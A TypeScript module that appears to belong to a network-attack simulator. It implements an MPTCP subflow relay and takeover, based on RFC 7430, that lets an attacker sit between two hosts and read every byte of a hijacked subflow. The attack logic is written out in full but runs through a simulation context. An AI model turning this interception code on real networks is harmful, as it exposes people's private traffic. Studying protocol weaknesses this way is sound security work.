/**
 * The attacker's relay: subflows that reach its own address are passed on
 * to a real endpoint, and the answers passed back, rewriting only
 * addresses and ports (sequence numbers, options and payload untouched),
 * the way a NAT would. MP_JOIN's HMACs do not cover addresses, so both
 * ends verify each other through it (RFC 7430 §2, §6); from then on every
 * byte of that subflow goes through the attacker, which learns it all.
 *
 * Two ways in: a host connects to the attacker's address (`handle`, after a
 * forged ADD_ADDR), or an on-path attacker takes over a subflow it sees
 * (`intercept`, RFC 7430 §6): the SYN+MP_JOIN leaves with the attacker's
 * address as its source, so the far end answers the attacker, which answers
 * the near end in the far end's name.
 */
import { formatEndpoint, ipEqual, type IpAddress } from '../wire/ip-address.ts';
import { craftSegment } from './craft.ts';
import type { AttackContext, ObservedPacket } from './strategy.ts';
import { TCP_FLAG } from '../wire/tcp-header.ts';

export interface Endpoint {
  addr: IpAddress;
  port: number;
}

interface Mapping {
  /** The host that started the subflow. */
  near: Endpoint;
  /** Who the near end believes it talks to: the attacker's address and port, or the far end itself. */
  nearFacing: Endpoint;
  /** The attacker's port toward the far end. */
  relayPort: number;
  far: Endpoint;
  relayedData: boolean;
}

export class SubflowRelay {
  private readonly byNear = new Map<string, Mapping>();
  private readonly byRelayPort = new Map<number, Mapping>();

  constructor(
    private readonly own: IpAddress,
    /** Where a new subflow reaching the attacker is passed on to; null to ignore it. */
    private readonly farEndFor: (p: ObservedPacket) => Endpoint | null,
  ) {}

  /** It relays (or took over) at least one subflow. */
  get tookOver(): boolean {
    return this.byNear.size > 0;
  }

  /** Handles a packet to the attacker's own address; false when it belongs to no relayed subflow. */
  handle(ctx: AttackContext, p: ObservedPacket): boolean {
    const d = p.decoded;
    const h = d.tcp!.header;
    const back = this.byRelayPort.get(h.dstPort);
    if (back && ipEqual(d.ip.src, back.far.addr) && h.srcPort === back.far.port) {
      this.pass(ctx, p, back, back.nearFacing, back.near, 'back');
      return true;
    }
    const key = `${formatEndpoint(d.ip.src, h.srcPort)}>${h.dstPort}`;
    let m = this.byNear.get(key);
    if (!m) {
      if (!(h.flags & TCP_FLAG.SYN) || h.flags & TCP_FLAG.ACK) return false;
      const far = this.farEndFor(p);
      if (!far) return false;
      let relayPort = 40000 + ctx.rng.below(20000);
      while (this.byRelayPort.has(relayPort)) relayPort++;
      m = this.map(ctx, p, key, { addr: this.own, port: h.dstPort }, far);
    }
    this.pass(ctx, p, m, { addr: this.own, port: m.relayPort }, m.far, 'forth');
    return true;
  }

  /**
   * A packet on the attacker's link: the start of a subflow it takes over
   * (a SYN+MP_JOIN, when `takeOver` says so) or a later one of a subflow it
   * took over. Returns its rewritten bytes, or null to let it pass.
   */
  intercept(ctx: AttackContext, p: ObservedPacket, takeOver: (p: ObservedPacket) => boolean): Uint8Array | null {
    const d = p.decoded;
    const h = d.tcp!.header;
    const key = `${formatEndpoint(d.ip.src, h.srcPort)}>${formatEndpoint(d.ip.dst, h.dstPort)}`;
    let m = this.byNear.get(key);
    if (!m) {
      if (!(h.flags & TCP_FLAG.SYN) || h.flags & TCP_FLAG.ACK || !takeOver(p)) return null;
      const far = { addr: d.ip.dst, port: h.dstPort };
      m = this.map(ctx, p, key, far, far);
    }
    const payload = d.payloadLength > 0 ? p.bytes.subarray(d.payloadOffset, d.payloadOffset + d.payloadLength) : new Uint8Array(0);
    this.noteData(ctx, p, m, payload.length, 'forth', p.id);
    return craftSegment({ src: this.own, dst: m.far.addr, srcPort: m.relayPort, dstPort: m.far.port, seq: h.seq, ack: h.ack, flags: h.flags, window: h.window, options: h.options, payload });
  }

  private map(ctx: AttackContext, p: ObservedPacket, key: string, nearFacing: Endpoint, far: Endpoint): Mapping {
    const d = p.decoded;
    const h = d.tcp!.header;
    let relayPort = 40000 + ctx.rng.below(20000);
    while (this.byRelayPort.has(relayPort)) relayPort++;
    const m: Mapping = { near: { addr: d.ip.src, port: h.srcPort }, nearFacing, relayPort, far, relayedData: false };
    this.byNear.set(key, m);
    this.byRelayPort.set(relayPort, m);
    const taken = nearFacing.addr === far.addr && nearFacing.port === far.port;
    ctx.act(
      {
        kind: 'attacker-relay',
        note: taken
        ? `takes over the subflow ${formatEndpoint(m.near.addr, m.near.port)} → ${formatEndpoint(far.addr, far.port)}: its SYN+MP_JOIN leaves with the source ${formatEndpoint(this.own, relayPort)}, and the answers come back through the attacker`
          : `relays the subflow ${formatEndpoint(m.near.addr, m.near.port)} → ${formatEndpoint(nearFacing.addr, nearFacing.port)} to ${formatEndpoint(far.addr, far.port)} from its port ${relayPort}, rewriting only addresses and ports`,
      },
      [p.id],
    );
    return m;
  }

  private noteData(ctx: AttackContext, p: ObservedPacket, m: Mapping, length: number, way: 'forth' | 'back', relayedAs: number | null): void {
    if (length === 0 || m.relayedData) return;
    m.relayedData = true;
    ctx.act({ kind: 'attacker-relay-data', packet: p.id, relayedAs, bytes: length, toward: way === 'forth', far: formatEndpoint(m.far.addr, m.far.port) }, relayedAs !== null && relayedAs !== p.id ? [p.id, relayedAs] : [p.id]);
  }

  private pass(ctx: AttackContext, p: ObservedPacket, m: Mapping, from: Endpoint, to: Endpoint, way: 'forth' | 'back'): void {
    const d = p.decoded;
    const h = d.tcp!.header;
    const payload = p.bytes.subarray(d.payloadOffset, d.payloadOffset + d.payloadLength);
    const bytes = craftSegment({ src: from.addr, dst: to.addr, srcPort: from.port, dstPort: to.port, seq: h.seq, ack: h.ack, flags: h.flags, window: h.window, options: h.options, payload });
    const id = ctx.inject(bytes, `relays packet #${p.id}`, { fromHome: true, quiet: true });
    if (id !== null) this.noteData(ctx, p, m, payload.length, way, id);
  }
}
